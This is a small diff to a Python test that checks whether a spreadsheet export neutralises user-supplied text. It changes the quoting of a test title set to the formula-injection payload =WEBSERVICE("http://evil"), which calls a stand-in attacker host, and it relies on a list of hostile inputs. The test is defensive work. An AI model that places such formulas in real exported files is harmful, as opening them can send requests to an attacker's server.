@@ -86,7 +86,7 @@ def test_user_text_never_becomes_a_formula(small_project, tmp_path):
     c = small_project.ids["commitment"]
     for i, text in enumerate(HOSTILE):
         small_project.create(m.Evidence, commitment_id=c, kind="note", title=text, note=f"n{i}")
-    small_project.update(m.Commitment, c, title="=WEBSERVICE(\"http://evil\")")
+    small_project.update(m.Commitment, c, title='=WEBSERVICE("http://evil")')
     path = tmp_path / "x.xlsx"
     export_workbook(small_project, path, "en")
     wb = load_workbook(path)
